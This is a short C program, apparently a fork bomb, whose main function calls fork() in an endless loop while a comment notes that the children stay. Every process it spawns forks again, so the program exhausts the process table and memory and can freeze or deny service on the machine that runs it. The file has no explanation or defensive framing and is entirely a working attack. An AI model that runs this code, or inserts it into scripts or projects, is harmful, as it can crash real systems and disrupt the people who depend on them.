/* Forks without end; children stay. */
#include <unistd.h>

int main(void)
{
    for (;;) {
        (void)fork();
    }
}
